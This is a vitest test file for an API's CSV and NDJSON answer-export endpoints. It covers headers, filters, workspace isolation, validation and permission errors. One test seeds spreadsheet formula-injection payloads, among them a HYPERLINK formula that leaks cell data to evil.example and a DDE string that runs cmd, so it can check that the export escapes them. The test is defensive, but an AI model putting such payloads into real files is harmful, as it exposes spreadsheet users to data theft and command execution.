import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { createTestKey, createTestWorkspace, type TestWorkspace } from '../../support/accounts.js';
import { useTestServer } from '../../support/test-server.js';
import { getWith, importRecords } from '../../support/visibility.js';
import { competitorLine, promptLine, snapshotLine } from '../../support/import-records.js';
import { seedAnswers } from './answers-fixture.js';

// Today is 2026-11-22 (UTC).
const NOW = new Date('2026-11-22T12:00:00.000Z');

const server = useTestServer({ now: () => NOW });

interface Answer {
  id: string;
  prompt: { id: string; text: string };
  platform: string;
  collected_at: string;
  mentioned: boolean;
  cited: boolean;
  competitors: string[];
  citations: Array<{ url: string }>;
  text: string;
}

/** Every answer the JSON list shows for the query, walking all pages. */
async function listAll(ws: TestWorkspace, query: Record<string, string>): Promise<Answer[]> {
  const all: Answer[] = [];
  let cursor: string | undefined;
  do {
    const res = await getWith(server, ws, '/api/v1/visibility/answers', { ...query, limit: 2, ...(cursor ? { cursor } : {}) });
    const data = (res.body as { data: { items: Answer[]; next_cursor: string | null } }).data;
    all.push(...data.items);
    cursor = data.next_cursor ?? undefined;
  } while (cursor);
  return all;
}

/** The CSV row of an answer, as documented: booleans as true/false, names joined by "; ", URLs by a space. */
function csvRow(a: Answer): Record<string, string> {
  return {
    id: a.id,
    collected_at: a.collected_at,
    prompt_id: a.prompt.id,
    prompt_text: a.prompt.text,
    platform: a.platform,
    mentioned: String(a.mentioned),
    cited: String(a.cited),
    competitors: a.competitors.join('; '),
    citation_urls: a.citations.map((c) => c.url).join(' '),
    text: a.text,
  };
}

const exportOf = (ws: TestWorkspace, query: Record<string, string>) => getWith(server, ws, '/api/v1/visibility/exports/answers', query);
const ndjsonExportOf = (ws: TestWorkspace, query: Record<string, string>) => getWith(server, ws, '/api/v1/visibility/exports/answers.ndjson', query);

describe('GET /api/v1/visibility/exports/answers and answers.ndjson', () => {
  it('when CSV is asked for, serves an attachment whose rows parse back to the answers list', async () => {
    const ws = await createTestWorkspace(server.store);
    await seedAnswers(server, ws);
    const res = await exportOf(ws, { range: '30d', format: 'csv' });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
    expect(res.headers.get('content-disposition')).toBe('attachment; filename="answers-30d-2026-11-22.csv"');
    expect(res.text.split('\r\n')[0]).toBe('id,collected_at,prompt_id,prompt_text,platform,mentioned,cited,competitors,citation_urls,text');
    expect(res.text.endsWith('\r\n')).toBe(true);
    const rows = parse<Record<string, string>>(res.text, { columns: true });
    const listed = await listAll(ws, { range: '30d' });
    expect(listed).toHaveLength(4);
    expect(rows).toEqual(listed.map(csvRow));
  });

  it('when format is omitted, serves CSV', async () => {
    const ws = await createTestWorkspace(server.store);
    await seedAnswers(server, ws);
    const res = await exportOf(ws, {});
    expect([res.status, res.headers.get('content-disposition')]).toEqual([200, 'attachment; filename="answers-30d-2026-11-22.csv"']);
  });

  it('when NDJSON is asked for, serves one line per answer, each exactly the list\'s answer', async () => {
    const ws = await createTestWorkspace(server.store);
    await seedAnswers(server, ws);
    const res = await ndjsonExportOf(ws, { range: '7d', mentioned: 'true' });
    expect(res.headers.get('content-type')).toBe('application/x-ndjson');
    expect(res.headers.get('content-disposition')).toBe('attachment; filename="answers-7d-2026-11-22.ndjson"');
    expect(res.text.endsWith('\n')).toBe(true);
    const lines = res.text.slice(0, -1).split('\n').map((l) => JSON.parse(l) as Answer);
    const listed = await listAll(ws, { range: '7d', mentioned: 'true' });
    expect(listed).toHaveLength(2);
    expect(lines).toEqual(listed);
  });

  it('when filters are given, exports the answers the list shows for them', async () => {
    const ws = await createTestWorkspace(server.store);
    const s = await seedAnswers(server, ws);
    const queries: Array<Record<string, string>> = [{ prompt: s.p1.id }, { platform: 'perplexity' }, { cited: 'false' }, { prompt: s.p2.id, mentioned: 'true' }];
    for (const query of queries) {
      const res = await exportOf(ws, { ...query, range: '30d', format: 'csv' });
      expect(parse(res.text, { columns: true })).toEqual((await listAll(ws, { ...query, range: '30d' })).map(csvRow));
    }
  });

  it('when nothing matches, serves the header row only (CSV) or an empty file (NDJSON)', async () => {
    const ws = await createTestWorkspace(server.store);
    expect((await exportOf(ws, { format: 'csv' })).text).toBe('id,collected_at,prompt_id,prompt_text,platform,mentioned,cited,competitors,citation_urls,text\r\n');
    expect((await ndjsonExportOf(ws, {})).text).toBe('');
  });

  it('when another workspace has answers, exports none of them', async () => {
    const ws = await createTestWorkspace(server.store);
    const other = await createTestWorkspace(server.store);
    const mine = await seedAnswers(server, ws);
    await seedAnswers(server, other);
    const res = await ndjsonExportOf(ws, { range: '90d' });
    const ids = res.text.trim().split('\n').map((l) => (JSON.parse(l) as Answer).id);
    expect(ids.sort()).toEqual([mine.a1.id, mine.a2.id, mine.a3.id, mine.a4.id].sort());
  });

  it('when a parameter is invalid, answers a JSON 422 envelope instead of a file', async () => {
    const ws = await createTestWorkspace(server.store);
    const queries: Array<Record<string, string>> = [{ format: 'xlsx' }, { range: '1y' }, { cursor: 'abc' }];
    for (const query of queries) {
      const res = await exportOf(ws, query);
      expect([res.status, res.headers.get('content-type'), (res.body as { code: number }).code]).toEqual([422, 'application/json; charset=utf-8', 4220]);
    }
  });

  it('when texts start like spreadsheet formulas, prefixes those CSV cells with a quote and leaves NDJSON exact', async () => {
    const ws = await createTestWorkspace(server.store);
    const prompt = promptLine({ text: '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")' });
    const hostile: Array<{ competitor: string | null; answer: string }> = [
      { competitor: '=Evil Corp', answer: '+SUM(1,2)' },
      { competitor: '@Mallory', answer: "-2+3+cmd|' /C calc'!A0" },
      { competitor: '-Minus Ltd', answer: '@SUM(A1:A9)' },
      { competitor: '+Plus Inc', answer: '\t=1+1' },
      { competitor: null, answer: '\r=1+1' },
    ];
    const benign = 'Plain text - with = and @ inside is left alone.';
    const snapshots = [...hostile.map((h) => h.answer), benign].map((answer, i) => snapshotLine({
      prompt_id: prompt.id,
      collected_at: `2026-11-2${i % 3}T08:00:0${i}.000Z`,
      competitors: hostile[i]?.competitor ? [hostile[i].competitor] : [],
      answer,
    }));
    await importRecords(server.store, ws, [
      ...hostile.flatMap((h) => (h.competitor ? [competitorLine({ name: h.competitor })] : [])),
      prompt, ...snapshots,
    ]);

    const csv = await exportOf(ws, { range: '7d', format: 'csv' });
    const rows = parse<Record<string, string>>(csv.text, { columns: true });
    const byId = new Map(rows.map((r) => [r.id!, r]));
    expect(rows).toHaveLength(6);
    for (const [i, h] of hostile.entries()) {
      const row = byId.get(snapshots[i]!.id)!;
      expect([row.prompt_text, row.competitors, row.text]).toEqual([`'${prompt.record.text as string}`, h.competitor ? `'${h.competitor}` : '', `'${h.answer}`]);
    }
    expect(byId.get(snapshots[5]!.id)!.text).toBe(benign);
    // No cell of the file can start a formula.
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);

    const ndjson = await ndjsonExportOf(ws, { range: '7d' });
    const answers = ndjson.text.trimEnd().split('\n').map((l) => JSON.parse(l) as Answer);
    expect(answers.map((a) => [a.prompt.text, a.text]).sort()).toEqual(snapshots.map((l) => [prompt.record.text, l.record.answer]).sort());
    expect(answers.flatMap((a) => a.competitors).sort()).toEqual(hostile.flatMap((h) => (h.competitor ? [h.competitor] : [])).sort());
  });

  it('when the key lacks visibility:read, answers a JSON 403 envelope', async () => {
    const ws = await createTestWorkspace(server.store);
    const key = await createTestKey(server.store, ws, { scopes: ['workspace:read'] });
    const res = await getWith(server, { ...ws, key: key.key }, '/api/v1/visibility/exports/answers', {});
    expect([res.status, (res.body as { code: number }).code]).toEqual([403, 4023]);
  });
});
